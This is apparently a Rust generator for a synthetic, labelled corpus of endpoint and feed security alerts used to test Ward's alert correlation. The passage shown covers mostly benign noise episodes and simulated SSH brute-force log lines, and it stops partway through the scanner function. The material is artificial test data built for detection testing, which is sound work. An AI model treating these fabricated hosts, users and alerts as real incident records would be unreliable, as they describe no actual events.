//! The deterministic generator of the labelled correlation corpus
//! (tests/fixtures/correlation, its README says what is in it and why).
//!
//! Alerts are built the way Ward builds them: agent alerts carry the built-in
//! rule's id, title, author, level and ATT&CK ids (parsed from the rule pack the
//! agent compiles in) and the entities `agent::detect::entities` gives a process,
//! file or auth event, plus the process's `Lineage`; feed alerts are built with
//! the collector's own feed rules and alert builder. A seeded xorshift chooses
//! counts and jitter, so generating again gives the same bytes.

use std::collections::HashMap;

use ward_collector::feeds::alerts as feed;
use ward_collector::store::{AlertSource, SourcedAlert};
use ward_protocol::{Entity, Id128, ProcessNode, RuleRef, Severity};

use super::format::{AlertJson, Corpus, DeviceSpec, NOISE, Record};

const SEC: u64 = 1_000;
const MIN: u64 = 60 * SEC;
const H: u64 = 60 * MIN;
const DAY: u64 = 24 * H;
/// Monday 2026-11-16 00:00 UTC: the first day of the corpus.
const D0: u64 = 1_794_787_200_000;
/// Tuesday 2022-01-11 00:00 UTC: the day of the recorded Log4Shell intrusion.
const D2022: u64 = 1_641_859_200_000;
/// The kiosk's clock runs three years (and a bit) ahead.
const KIOSK_AHEAD_MS: u64 = 3 * 365 * DAY + 2 * H + 13 * MIN;
/// laptop-dave is offline from Wednesday 08:00 to Friday 08:30 and then delivers its outbox.
const DAVE_OFFLINE: (u64, u64) = (D0 + 2 * DAY + 8 * H, D0 + 4 * DAY + 8 * H + 30 * MIN);
/// The 2022 recording is replayed through replay-lab on Thursday 16:00.
const REPLAY_AT: u64 = D0 + 3 * DAY + 16 * H;
const EICAR: &str = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
/// The phishing attachment: a stage-one loader. An attack's payload is not the
/// antivirus test string (the quickstart story uses EICAR only to stay harmless), so
/// it does not share a hash with the build host's EICAR test files. The value is
/// SHA-256 of "ward corpus: invoice.com, the stage-one loader of phish-alice".
const PAYLOAD: &str = "edbcfef5c38d353f86a6752fddd88808059ce7639fabb45f449daf44c207fb35";

/// How a device's alerts reach the collector.
#[derive(Debug, Clone, Copy)]
enum Delivery {
    /// Online, clock right: received a second or two after it was observed.
    Live,
    /// Clock ahead: every time it reports (alerts, process starts) is shifted.
    Ahead(u64),
    /// Offline between the two times; what it saw then arrives at the second.
    Backlog(u64, u64),
    /// A recording replayed 30 times faster than it happened, starting at `at`.
    Replay { first: u64, at: u64 },
}

struct Dev {
    spec: DeviceSpec,
    delivery: Delivery,
    next_pid: u32,
}

/// A process as the agent reads it.
#[derive(Debug, Clone)]
struct P {
    pid: u32,
    ppid: u32,
    start: u64,
    exe: String,
    cmd: String,
    user: String,
    uid: u32,
    login: Option<String>,
    sha256: [u8; 32],
}

/// A process and its ancestors, root first.
type Tree = Vec<P>;

struct Gen {
    x: u64,
    seq: u64,
    out: Vec<(u64, Record)>,
    devs: Vec<Dev>,
    rules: HashMap<String, RuleRef>,
    /// Long-lived service processes by (device, name).
    services: HashMap<(usize, String), P>,
}

fn sha(parts: &[&str]) -> [u8; 32] {
    let mut ctx = ring::digest::Context::new(&ring::digest::SHA256);
    for p in parts {
        ctx.update(p.as_bytes());
        ctx.update(&[0]);
    }
    let mut h = [0u8; 32];
    h.copy_from_slice(ctx.finish().as_ref());
    h
}

fn hex32(s: &str) -> [u8; 32] {
    let mut h = [0u8; 32];
    for (i, b) in h.iter_mut().enumerate() {
        *b = u8::from_str_radix(s.get(2 * i..2 * i + 2).unwrap_or("00"), 16).unwrap_or(0);
    }
    h
}

/// The agent's RuleRef for a built-in rule file (`lnx_ward_<stem>.yml`).
fn builtin_rules() -> HashMap<String, RuleRef> {
    let mut out = HashMap::new();
    for (name, text) in ward_detect::builtin::BUILTIN_RULES {
        let field = |k: &str| {
            text.lines()
                .find_map(|l| l.strip_prefix(k))
                .map(|v| v.trim().trim_matches('\'').replace("''", "'"))
                .unwrap_or_default()
        };
        let tags: Vec<String> = text
            .lines()
            .filter_map(|l| l.trim().strip_prefix("- attack."))
            .map(|t| format!("attack.{t}"))
            .collect();
        let (techniques, tactics) = ward_detect::entities::attack_ids(&tags);
        let stem = name
            .trim_start_matches("lnx_ward_")
            .trim_end_matches(".yml")
            .to_string();
        out.insert(
            stem,
            RuleRef {
                id: field("id: "),
                title: field("title: "),
                author: field("author: "),
                severity: Severity::parse(&field("level: ")).unwrap_or(Severity::Medium),
                techniques,
                tactics,
            },
        );
    }
    out
}

impl Gen {
    fn rand(&mut self, n: u64) -> u64 {
        self.x ^= self.x << 13;
        self.x ^= self.x >> 7;
        self.x ^= self.x << 17;
        self.x % n.max(1)
    }

    fn between(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.rand(hi.saturating_sub(lo).max(1))
    }

    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.rand(xs.len() as u64) as usize]
    }

    fn hexid(&mut self, n: usize) -> String {
        (0..n).map(|_| format!("{:x}", self.rand(16))).collect()
    }

    fn dev(&self, host: &str) -> usize {
        self.devs.iter().position(|d| d.spec.hostname == host).unwrap_or(0)
    }

    /// A process started at `start` under `parent` (none: a service started at boot).
    #[allow(clippy::too_many_arguments)]
    fn spawn(
        &mut self,
        dev: usize,
        parent: Option<&P>,
        start: u64,
        exe: &str,
        cmd: &str,
        user: &str,
        uid: u32,
        login: Option<&str>,
    ) -> P {
        let step = 1 + self.rand(40) as u32;
        let d = &mut self.devs[dev];
        d.next_pid = if d.next_pid + step > 4_194_000 {
            300
        } else {
            d.next_pid + step
        };
        let system = ["/usr/", "/bin/", "/sbin/", "/opt/", "/lib/"]
            .iter()
            .any(|p| exe.starts_with(p));
        // System binaries hash alike on every device with the same OS; what a build
        // or test produces is new every time.
        let sha256 = if system {
            sha(&[&d.spec.os, exe])
        } else {
            sha(&[&d.spec.hostname, exe, &start.to_string()])
        };
        P {
            pid: d.next_pid,
            ppid: parent.map_or(1, |p| p.pid),
            start,
            exe: exe.into(),
            cmd: cmd.into(),
            user: user.into(),
            uid,
            login: login.map(str::to_string),
            sha256,
        }
    }

    /// A child of the last process of `tree`, run by the same user.
    fn child(&mut self, dev: usize, tree: &Tree, dt: u64, exe: &str, cmd: &str) -> Tree {
        let Some(parent) = tree.last().cloned() else {
            return tree.clone();
        };
        let p = self.spawn(
            dev,
            Some(&parent),
            parent.start + dt,
            exe,
            cmd,
            &parent.user,
            parent.uid,
            parent.login.as_deref(),
        );
        let mut t = tree.clone();
        t.push(p);
        t
    }

    /// A child started at an absolute time.
    fn child_at(&mut self, dev: usize, tree: &Tree, at: u64, exe: &str, cmd: &str) -> Tree {
        let start = tree.last().map_or(at, |p| p.start);
        self.child(dev, tree, at.saturating_sub(start), exe, cmd)
    }

    /// A child run as another user (su, sudo, a privilege drop).
    #[allow(clippy::too_many_arguments)]
    fn child_as(&mut self, dev: usize, tree: &Tree, at: u64, exe: &str, cmd: &str, user: &str, uid: u32) -> Tree {
        let mut t = self.child_at(dev, tree, at, exe, cmd);
        if let Some(p) = t.last_mut() {
            p.user = user.into();
            p.uid = uid;
        }
        t
    }

    /// A long-lived service's main process (a child of init: the root of its trees).
    fn service(&mut self, dev: usize, name: &'static str, exe: &str, cmd: &str, user: &str, uid: u32) -> Tree {
        if let Some(p) = self.services.get(&(dev, name.to_string())) {
            return vec![p.clone()];
        }
        let boot = D0 - 3 * DAY + 17 * MIN + self.rand(20) * SEC;
        let boot = if matches!(self.devs[dev].delivery, Delivery::Replay { .. }) {
            D2022 - 2 * DAY
        } else {
            boot
        };
        let p = self.spawn(dev, None, boot, exe, cmd, user, uid, None);
        self.services.insert((dev, name.to_string()), p.clone());
        vec![p]
    }

    /// (observed, received) for something a device saw at true time `t`.
    fn times(&mut self, dev: usize, t: u64) -> (u64, u64) {
        let latency = self.between(150, 2_500);
        // The agent's link sends what is ready every couple of seconds.
        let live = (t + latency).div_ceil(2_000) * 2_000;
        match self.devs[dev].delivery {
            Delivery::Live => (t, live),
            Delivery::Ahead(ms) => (t + ms, live),
            Delivery::Backlog(from, until) if t >= from && t < until => {
                // The outbox drains in order within a minute of reconnecting.
                let frac = (t - from) as u128 * 60_000 / (until - from) as u128;
                (t, until + frac as u64 / 500 * 500)
            }
            Delivery::Backlog(..) => (t, live),
            Delivery::Replay { first, at } => (t, at + (t.saturating_sub(first) / 30).div_ceil(500) * 500),
        }
    }

    fn shift(&self, dev: usize, t: u64) -> u64 {
        match self.devs[dev].delivery {
            Delivery::Ahead(ms) => t + ms,
            _ => t,
        }
    }

    fn time_case(&self, dev: usize) -> Option<String> {
        match self.devs[dev].delivery {
            Delivery::Live => None,
            Delivery::Ahead(_) => Some("skewed-clock".into()),
            Delivery::Backlog(..) => Some("backlog".into()),
            Delivery::Replay { .. } => Some("replay-2022".into()),
        }
    }

    fn node(&self, dev: usize, p: &P) -> ProcessNode {
        ProcessNode {
            pid: p.pid,
            ppid: p.ppid,
            start_time_ms: self.shift(dev, p.start),
            exe: p.exe.clone(),
            cmdline: p.cmd.clone(),
            user: Some(p.user.clone()),
            login_user: p.login.clone(),
        }
    }

    fn agent_id(&mut self, observed: u64) -> String {
        self.seq += 1;
        let low = u128::from(self.seq.wrapping_mul(0x9e37_79b9_7f4a_7c15)) & ((1u128 << 80) - 1);
        Id128::from_u128((u128::from(observed.min((1 << 48) - 1)) << 80) | low).to_string()
    }

    #[allow(clippy::too_many_arguments)]
    fn emit(
        &mut self,
        label: &str,
        episode: &str,
        dev: Option<usize>,
        source: &str,
        rule: RuleRef,
        observed: (u64, u64),
        received: u64,
        entities: Vec<Entity>,
        count: u32,
        id: Option<String>,
        matched: serde_json::Map<String, serde_json::Value>,
        time_case: Option<String>,
    ) {
        let id = match id {
            Some(id) => id,
            None => self.agent_id(observed.0),
        };
        self.seq += 1;
        let record = Record {
            label: label.into(),
            episode: episode.into(),
            time_case,
            device: dev.map(|d| self.devs[d].spec.hostname.clone()),
            received_ms: received,
            alert: AlertJson {
                id,
                source: source.into(),
                observed_at_ms: observed.0,
                last_observed_at_ms: observed.1,
                rule,
                entities: entities.iter().map(ward_collector::entity::to_json).collect(),
                count,
                matched,
            },
        };
        self.out.push((self.seq, record));
    }

    fn rule(&self, stem: &str) -> RuleRef {
        self.rules.get(stem).cloned().unwrap_or_else(|| RuleRef {
            id: stem.into(),
            title: stem.into(),
            author: "Ward".into(),
            severity: Severity::Medium,
            techniques: vec![],
            tactics: vec![],
        })
    }

    /// An alert on the last process of `tree` (a process_creation rule).
    fn proc_alert(&mut self, label: &str, episode: &str, dev: usize, stem: &str, tree: &Tree) {
        let Some(p) = tree.last().cloned() else { return };
        let mut entities = vec![
            Entity::User {
                name: p.user.clone(),
                uid: Some(p.uid),
            },
            Entity::Process {
                pid: p.pid,
                ppid: p.ppid,
                start_time_ms: self.shift(dev, p.start),
                exe: p.exe.clone(),
                cmdline: p.cmd.clone(),
                sha256: Some(p.sha256),
            },
            Entity::File {
                path: p.exe.clone(),
                sha256: Some(p.sha256),
            },
        ];
        ward_detect::entities::network_entities(&p.cmd, &mut entities);
        let n = tree.len() - 1;
        let max = ward_protocol::MAX_ANCESTORS;
        let ancestors: Vec<ProcessNode> = tree[..n].iter().rev().take(max).map(|a| self.node(dev, a)).collect();
        entities.push(Entity::Lineage {
            process: self.node(dev, &p),
            ancestors,
            rooted: n <= max,
        });
        let t = p.start + self.between(5, 400);
        let (observed, received) = self.times(dev, t);
        let tc = self.time_case(dev);
        let rule = self.rule(stem);
        let mut m = serde_json::Map::new();
        m.insert("Image".into(), p.exe.clone().into());
        m.insert("CommandLine".into(), p.cmd.clone().into());
        if n > 0 {
            m.insert("ParentImage".into(), tree[n - 1].exe.clone().into());
        }
        self.emit(
            label,
            episode,
            Some(dev),
            "agent",
            rule,
            (observed, observed),
            received,
            entities,
            1,
            None,
            m,
            tc,
        );
    }

    /// A file_event alert (the sensor knows the path and hash, not the writer).
    #[allow(clippy::too_many_arguments)]
    fn file_alert(&mut self, label: &str, episode: &str, dev: usize, stem: &str, t: u64, path: &str, sha256: [u8; 32]) {
        let (observed, received) = self.times(dev, t);
        let tc = self.time_case(dev);
        let rule = self.rule(stem);
        let mut m = serde_json::Map::new();
        m.insert("TargetFilename".into(), path.into());
        m.insert("sha256".into(), hex::encode(sha256).into());
        self.emit(
            label,
            episode,
            Some(dev),
            "agent",
            rule,
            (observed, observed),
            received,
            vec![Entity::File {
                path: path.into(),
                sha256: Some(sha256),
            }],
            1,
            None,
            m,
            tc,
        );
    }

    /// An sshd log alert; `count` repeats folded by the agent over `span`.
    #[allow(clippy::too_many_arguments)]
    fn auth_alert(
        &mut self,
        label: &str,
        episode: &str,
        dev: usize,
        stem: &str,
        t: u64,
        user: &str,
        ip: &str,
        count: u32,
        span: u64,
        line: &str,
    ) {
        let (observed, received) = if count > 1 {
            // A folded alert leaves when its window closes.
            let (o, r) = self.times(dev, t + span);
            (o - span, r)
        } else {
            self.times(dev, t)
        };
        let tc = self.time_case(dev);
        let rule = self.rule(stem);
        let mut entities = Vec::new();
        if !user.is_empty() {
            entities.push(Entity::User {
                name: user.into(),
                uid: None,
            });
        }
        if let Ok(addr) = ip.parse() {
            entities.push(Entity::Ip { addr });
        }
        let mut m = serde_json::Map::new();
        m.insert("message".into(), line.into());
        self.emit(
            label,
            episode,
            Some(dev),
            "agent",
            rule,
            (observed, observed + span),
            received,
            entities,
            count,
            None,
            m,
            tc,
        );
    }

    /// A feed alert, received when the hourly import job (at :07) picks it up.
    fn feed_alert(&mut self, label: &str, episode: &str, a: SourcedAlert) {
        let at = a.last_observed_at_ms;
        let received = (at / H + 1) * H + 7 * MIN + self.rand(40) * SEC;
        let source = a.source.as_str().to_string();
        self.emit(
            label,
            episode,
            None,
            &source,
            a.rule,
            (a.observed_at_ms, a.last_observed_at_ms),
            received,
            a.entities,
            a.count,
            Some(a.id),
            a.matched,
            None,
        );
    }
}

fn user_upn(u: &str) -> Entity {
    feed::user(u)
}

fn ip(s: &str) -> Entity {
    Entity::Ip {
        addr: s
            .parse()
            .unwrap_or(std::net::IpAddr::V4(std::net::Ipv4Addr::UNSPECIFIED)),
    }
}

fn devices() -> Vec<Dev> {
    let d = |host: &str, addr: &str, os: &str, role: &str, delivery: Delivery| Dev {
        spec: DeviceSpec {
            hostname: host.into(),
            addresses: vec![addr.into()],
            os: os.into(),
            role: role.into(),
        },
        delivery,
        next_pid: 3_000,
    };
    vec![
        d(
            "laptop-alice",
            "10.10.1.21",
            "Ubuntu 24.04",
            "alice's developer laptop (Go); the phishing story's endpoint",
            Delivery::Live,
        ),
        d(
            "laptop-dave",
            "10.10.1.34",
            "Ubuntu 24.04",
            "dave's developer laptop (Rust, Node); offline two days, then delivers its backlog",
            Delivery::Backlog(DAVE_OFFLINE.0, DAVE_OFFLINE.1),
        ),
        d(
            "build-01",
            "10.20.5.11",
            "Ubuntu 22.04",
            "busy CI runner (GitLab shell executor): Rust, Debian packages, Python tests",
            Delivery::Live,
        ),
        d(
            "build-02",
            "10.20.5.12",
            "Ubuntu 22.04",
            "second CI runner, quieter",
            Delivery::Live,
        ),
        d(
            "web-01",
            "10.20.1.10",
            "Debian 12",
            "Tomcat 10 application server; the web-shell chain",
            Delivery::Live,
        ),
        d(
            "bastion-01",
            "10.20.0.5",
            "Debian 12",
            "SSH bastion reachable from the internet; the brute force",
            Delivery::Live,
        ),
        d("db-01", "10.20.2.20", "Debian 12", "PostgreSQL server", Delivery::Live),
        d(
            "kiosk-03",
            "10.30.0.43",
            "Debian 12",
            "lobby kiosk whose clock is three years ahead",
            Delivery::Ahead(KIOSK_AHEAD_MS),
        ),
        d(
            "replay-lab",
            "10.99.0.7",
            "Debian 11",
            "lab host replaying an intrusion recorded in January 2022",
            Delivery::Replay {
                first: D2022 + 15 * H,
                at: REPLAY_AT,
            },
        ),
    ]
}

/// The seed of the committed corpus.
pub const SEED: u64 = 0x5eed_c0ff_ee15_600d;

/// The whole corpus, in arrival order.
pub fn generate() -> Corpus {
    generate_seeded(SEED)
}

/// The corpus with another seed: the same week, story and attacks, other counts,
/// jitter and noise (to check that grouping rules hold beyond the committed draw).
pub fn generate_seeded(seed: u64) -> Corpus {
    let mut g = Gen {
        // xorshift never leaves zero.
        x: seed.max(1),
        seq: 0,
        out: Vec::new(),
        devs: devices(),
        rules: builtin_rules(),
        services: HashMap::new(),
    };
    for day in 0..5 {
        ci(&mut g, "build-01", day, 14 * MIN, 30 * MIN);
        ci(&mut g, "build-02", day, 60 * MIN, 120 * MIN);
        developers(&mut g, day);
        admins(&mut g, day);
        audit_cron(&mut g, day);
        scanners(&mut g, day);
        kiosk(&mut g, day);
    }
    upgrades(&mut g);
    identity_noise(&mut g);
    phish_alice(&mut g);
    webshell_tomcat(&mut g);
    ssh_bruteforce(&mut g);
    cloud_identity(&mut g);
    log4shell_2022(&mut g);
    npm_miner(&mut g);
    let mut out = std::mem::take(&mut g.out);
    out.sort_by_key(|(seq, r)| (r.received_ms, r.alert.observed_at_ms, *seq));
    Corpus {
        devices: g.devs.iter().map(|d| d.spec.clone()).collect(),
        records: out.into_iter().map(|(_, r)| r).collect(),
    }
}

const CRATES: [&str; 12] = [
    "ring",
    "openssl-sys",
    "libsqlite3-sys",
    "proc-macro2",
    "serde",
    "zstd-sys",
    "blake3",
    "quinn-udp",
    "rustix",
    "libc",
    "typenum",
    "aws-lc-sys",
];
const TEST_CRATES: [&str; 6] = ["ward_agent", "ward_collector", "ward_protocol", "api", "e2e", "store"];
const PACKAGES: [&str; 6] = [
    "dbus-1.14.10",
    "curl-8.5.0",
    "libxml2-2.9.14",
    "cups-2.4.7",
    "openssh-9.6p1",
    "sudo-1.9.15p5",
];

/// CI jobs on a runner from 06:00 to 22:00, one every `lo`..`hi`.
fn ci(g: &mut Gen, host: &str, day: u64, lo: u64, hi: u64) {
    let dev = g.dev(host);
    let runner = g.service(
        dev,
        "gitlab-runner",
        "/usr/bin/gitlab-runner",
        "/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner --config /etc/gitlab-runner/config.toml --service gitlab-runner --user gitlab-runner",
        "root",
        0,
    );
    let mut t = D0 + day * DAY + 6 * H + g.between(0, lo);
    let mut job = 40_000 + day * 1_000 + g.rand(100);
    while t < D0 + day * DAY + 22 * H {
        job += 1 + g.rand(3);
        let episode = format!("noise/ci/{host}/job-{job}");
        let su = g.child_as(
            dev,
            &runner,
            t,
            "/usr/bin/su",
            "su -s /bin/bash gitlab-runner -c bash --login",
            "root",
            0,
        );
        let sh = g.child_as(dev, &su, t + 300, "/usr/bin/bash", "bash --login", "gitlab-runner", 998);
        match g.rand(20) {
            0..=8 => {
                let target = format!("/tmp/ci-target-{job}");
                let cargo = g.child(
                    dev,
                    &sh,
                    4 * SEC,
                    "/home/gitlab-runner/.cargo/bin/cargo",
                    "cargo test --locked --workspace",
                );
                let mut at = cargo[cargo.len() - 1].start + 3 * SEC;
                for _ in 0..g.between(3, 8) {
                    let c = g.pick(&CRATES);
                    let h = g.hexid(16);
                    let exe = format!("{target}/debug/build/{c}-{h}/build-script-build");
                    at += g.between(300, 9_000);
                    let p = g.child_at(dev, &cargo, at, &exe, &exe);
                    g.proc_alert(NOISE, &episode, dev, "exec_from_tmp", &p);
                }
                at += 60 * SEC;
                for _ in 0..g.between(1, 4) {
                    let c = g.pick(&TEST_CRATES);
                    let h = g.hexid(16);
                    let exe = format!("{target}/debug/deps/{c}-{h}");
                    at += g.between(2_000, 40_000);
                    let p = g.child_at(dev, &cargo, at, &exe, &exe);
                    g.proc_alert(NOISE, &episode, dev, "exec_from_tmp", &p);
                }
            }
            9..=13 => {
                let pkg = g.pick(&PACKAGES);
                let dir = format!("/tmp/build-{job}/{pkg}");
                let dpkg = g.child(
                    dev,
                    &sh,
                    5 * SEC,
                    "/usr/bin/perl",
                    "/usr/bin/perl /usr/bin/dpkg-buildpackage -us -uc -b",
                );
                let make = g.child(dev, &dpkg, 2 * SEC, "/usr/bin/make", "make -f debian/rules build");
                let conf = g.child(
                    dev,
                    &make,
                    SEC,
                    "/usr/bin/dash",
                    "/bin/sh ./configure --build=x86_64-linux-gnu --prefix=/usr --disable-silent-rules",
                );
                let mut at = conf[conf.len() - 1].start;
                for _ in 0..g.between(3, 9) {
                    at += g.between(400, 5_000);
                    let exe = format!("{dir}/conftest");
                    let p = g.child_at(dev, &conf, at, &exe, "./conftest");
                    g.proc_alert(NOISE, &episode, dev, "exec_from_tmp", &p);
                }
                if pkg.starts_with("dbus") || pkg.starts_with("sudo") || pkg.starts_with("openssh") {
                    let helper = match pkg.split('-').next() {
                        Some("dbus") => "debian/dbus-daemon/usr/lib/dbus-1.0/dbus-daemon-launch-helper",
                        Some("sudo") => "debian/sudo/usr/bin/sudo",
                        _ => "debian/openssh-client/usr/lib/openssh/ssh-keysign",
                    };
                    let chmod_at = at + g.between(60_000, 240_000);
                    let chmod = g.child_at(dev, &make, chmod_at, "/usr/bin/chmod", &format!("chmod 4754 {helper}"));
                    g.proc_alert(NOISE, &episode, dev, "setuid_chmod", &chmod);
                }
            }
            _ => {
                let n = g.between(100, 999);
                let py = g.child(
                    dev,
                    &sh,
                    6 * SEC,
                    "/usr/bin/python3.10",
                    "python3 -m pytest -q tests/ --junitxml=report.xml",
                );
                let mut at = py[py.len() - 1].start + 4 * SEC;
                for test in [
                    "test_scan_detects_eicar0",
                    "test_quarantine_moves_file0",
                    "test_archive_member0",
                ] {
                    if g.rand(4) == 0 {
                        continue;
                    }
                    at += g.between(300, 4_000);
                    let path = format!("/tmp/pytest-of-gitlab-runner/pytest-{n}/{test}/eicar.com");
                    g.file_alert(NOISE, &episode, dev, "known_bad_file_hash", at, &path, hex32(EICAR));
                }
            }
        }
        t += g.between(lo, hi);
    }
}

/// The user's session manager for the day (`systemd --user`, the root of the
/// session's process trees): one login a day.
fn session(g: &mut Gen, dev: usize, user: &str, uid: u32, at: u64) -> Tree {
    let key = (dev, format!("session-{}", at / DAY));
    if let Some(p) = g.services.get(&key) {
        return vec![p.clone()];
    }
    let p = g.spawn(
        dev,
        None,
        at,
        "/usr/lib/systemd/systemd",
        "/usr/lib/systemd/systemd --user",
        user,
        uid,
        None,
    );
    g.services.insert(key, p.clone());
    vec![p]
}

/// alice's and dave's everyday work: Go tests and cargo installs run binaries from /tmp.
fn developers(g: &mut Gen, day: u64) {
    if day >= 5 {
        return;
    }
    for (host, user) in [("laptop-alice", "alice"), ("laptop-dave", "dave")] {
        let dev = g.dev(host);
        let morning = D0 + day * DAY + 7 * H + 30 * MIN + g.rand(50) * MIN;
        let sess = session(g, dev, user, 1000, morning);
        let term = g.child(
            dev,
            &sess,
            2 * MIN,
            "/usr/libexec/gnome-terminal-server",
            "/usr/libexec/gnome-terminal-server",
        );
        let bash = g.child(dev, &term, SEC, "/usr/bin/bash", "bash");
        let runs = g.between(2, 5);
        let mut t = morning + 40 * MIN;
        for run in 0..runs {
            t += g.between(50 * MIN, 150 * MIN);
            let episode = format!("noise/dev/{host}/day{day}-run{run}");
            if user == "alice" || g.rand(2) == 0 {
                let go = g.child_at(dev, &bash, t, "/usr/local/go/bin/go", "go test ./...");
                let build = g.rand(1_000_000_000);
                let mut at = t + 8 * SEC;
                for (i, pkg) in ["api", "auth", "billing", "cache", "config", "store", "worker", "web"]
                    .iter()
                    .enumerate()
                {
                    if g.rand(5) == 0 {
                        continue;
                    }
                    at += g.between(500, 6_000);
                    let exe = format!("/tmp/go-build{build}/b{:03}/{pkg}.test", i * 7 + 1);
                    let cmd = format!("{exe} -test.paniconexit0 -test.timeout=10m0s");
                    let p = g.child_at(dev, &go, at, &exe, &cmd);
                    g.proc_alert(NOISE, &episode, dev, "exec_from_tmp", &p);
                }
            } else {
                let tool = g.pick(&["cargo-nextest", "cargo-audit", "sqlx-cli", "cargo-deny"]);
                let cargo = g.child_at(
                    dev,
                    &bash,
                    t,
                    "/home/dave/.cargo/bin/cargo",
                    &format!("cargo install --locked {tool}"),
                );
                let dir = format!("/tmp/cargo-install{}", g.hexid(6));
                let mut at = t + 10 * SEC;
                for _ in 0..g.between(3, 7) {
                    let c = g.pick(&CRATES);
                    let h = g.hexid(16);
                    let exe = format!("{dir}/release/build/{c}-{h}/build-script-build");
                    at += g.between(1_000, 20_000);
                    let p = g.child_at(dev, &cargo, at, &exe, &exe);
                    g.proc_alert(NOISE, &episode, dev, "exec_from_tmp", &p);
                }
            }
        }
    }
}

const ADMIN_VPN: &str = "10.8.0.14";

/// mkowalski's SSH sessions on the servers: discovery commands, sudo -i, a mistyped password.
fn admins(g: &mut Gen, day: u64) {
    let hosts = ["web-01", "db-01", "bastion-01"];
    let sessions = g.between(2, 4);
    for s in 0..sessions {
        let host = g.pick(&hosts);
        let dev = g.dev(host);
        let at = D0 + day * DAY + 8 * H + g.rand(10 * 60) * MIN;
        // The webshell day: she comes to look at web-01 in the afternoon.
        let (host, dev, at) = if day == 2 && s == 0 {
            ("web-01", g.dev("web-01"), D0 + 2 * DAY + 16 * H + 40 * MIN)
        } else {
            (host, dev, at)
        };
        admin_session(g, host, dev, at, &format!("noise/admin/{host}/day{day}-s{s}"));
    }
}

fn admin_session(g: &mut Gen, host: &str, dev: usize, at: u64, episode: &str) {
    let sshd = sshd(g, dev);
    if g.rand(3) == 0 {
        g.auth_alert(
            NOISE,
            episode,
            dev,
            "ssh_auth_failure",
            at - 20 * SEC,
            "mkowalski",
            ADMIN_VPN,
            1,
            0,
            &format!("Failed password for mkowalski from {ADMIN_VPN} port 51122 ssh2"),
        );
    }
    let priv_ = g.child_as(dev, &sshd, at, "/usr/sbin/sshd", "sshd: mkowalski [priv]", "root", 0);
    let pts = g.child_as(
        dev,
        &priv_,
        at + 300,
        "/usr/sbin/sshd",
        "sshd: mkowalski@pts/0",
        "mkowalski",
        1001,
    );
    let mut bash = g.child(dev, &pts, 200, "/usr/bin/bash", "-bash");
    if let Some(p) = bash.last_mut() {
        p.login = Some("mkowalski".into());
    }
    let mut t = at + g.between(10, 60) * SEC;
    for cmd in ["/usr/bin/id", "/usr/bin/uname -a"] {
        if g.rand(2) == 0 {
            continue;
        }
        t += g.between(3, 40) * SEC;
        let exe = cmd.split(' ').next().unwrap_or(cmd);
        let name = cmd.rsplit('/').next().unwrap_or(cmd);
        let p = g.child_at(dev, &bash, t, exe, name);
        g.proc_alert(NOISE, episode, dev, "discovery_commands", &p);
    }
    t += g.between(20, 120) * SEC;
    let sudo = g.child_as(dev, &bash, t, "/usr/bin/sudo", "sudo -i", "root", 0);
    let root = g.child(dev, &sudo, 1_500, "/usr/bin/bash", "-bash");
    g.proc_alert(NOISE, episode, dev, "sudo_root_shell", &root);
    let cmds: &[&str] = match host {
        "db-01" => &[
            "/usr/bin/netstat -tlnp",
            "/usr/bin/getent passwd postgres",
            "/usr/bin/hostname -I",
        ],
        "bastion-01" => &[
            "/usr/bin/lastlog -t 2",
            "/usr/bin/netstat -tnp",
            "/usr/bin/getent group sudo",
        ],
        _ => &[
            "/usr/bin/netstat -tlnp",
            "/usr/bin/hostname -f",
            "/usr/bin/lastlog -u tomcat",
        ],
    };
    for cmd in cmds {
        if g.rand(4) == 0 {
            continue;
        }
        t += g.between(5, 300) * SEC;
        let exe = cmd.split(' ').next().unwrap_or(cmd);
        let shown = cmd.trim_start_matches("/usr/bin/");
        let p = g.child_at(dev, &root, t, exe, shown);
        g.proc_alert(NOISE, episode, dev, "discovery_commands", &p);
    }
}

fn sshd(g: &mut Gen, dev: usize) -> Tree {
    g.service(
        dev,
        "sshd",
        "/usr/sbin/sshd",
        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
        "root",
        0,
    )
}

fn cron(g: &mut Gen, dev: usize) -> Tree {
    g.service(dev, "cron", "/usr/sbin/cron", "/usr/sbin/cron -f", "root", 0)
}

/// A CIS audit script every four hours on the servers and the busy runner.
fn audit_cron(g: &mut Gen, day: u64) {
    for host in ["web-01", "db-01", "bastion-01", "build-01"] {
        let dev = g.dev(host);
        let cron = cron(g, dev);
        for slot in 0..6 {
            let at = D0 + day * DAY + slot * 4 * H + 17 * MIN;
            let episode = format!("noise/cron/{host}/day{day}-{:02}17", slot * 4);
            let fork = g.child_at(dev, &cron, at, "/usr/sbin/cron", "/usr/sbin/CRON -f -P");
            let sh = g.child(
                dev,
                &fork,
                20,
                "/usr/bin/dash",
                "/bin/sh -c /opt/cis-audit/collect.sh >/var/log/cis-audit.log 2>&1",
            );
            let script = g.child(dev, &sh, 5, "/usr/bin/bash", "/bin/bash /opt/cis-audit/collect.sh");
            let mut t = at + SEC;
            for cmd in ["lastlog", "getent group sudo", "hostname"] {
                t += g.between(100, 2_000);
                let exe = format!("/usr/bin/{}", cmd.split(' ').next().unwrap_or(cmd));
                let p = g.child_at(dev, &script, t, &exe, cmd);
                g.proc_alert(NOISE, &episode, dev, "discovery_commands", &p);
            }
        }
    }
}

const SCANNER_USERS: [&str; 14] = [
    "root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "git", "pi", "deploy", "ftpuser", "guest",
    "support", "centos",
];

/// The internet's background SSH scanning of the bastion, all day every day.
fn scanners(g: &mut Gen, day: u64) {
    let dev = g.dev("bastion-01");
    let mut t = D0 + day * DAY + g.rand(40) * MIN;
    while t < D0 + (day + 1) * DAY {
        // The /16s of networks that scan SSH all day.
        let ip = format!(
            "{}.{}.{}",
            g.pick(&[
                "61.177", "218.92", "183.81", "43.156", "141.98", "92.118", "165.232", "103.149"
            ]),
            g.rand(250) + 1,
            g.rand(250) + 1
        );
        let episode = format!("noise/scan/{ip}");
        for _ in 0..g.between(1, 4) {
            let user = g.pick(&SCANNER_USERS);
            let count = g.between(1, 6) as u32;
            let line = if user == "root" {
                format!("Failed password for root from {ip} port 40122 ssh2")
            } else {
                format!("Invalid user {user} from {ip} port 40122")
            };
            g.auth_alert(
                NOISE,
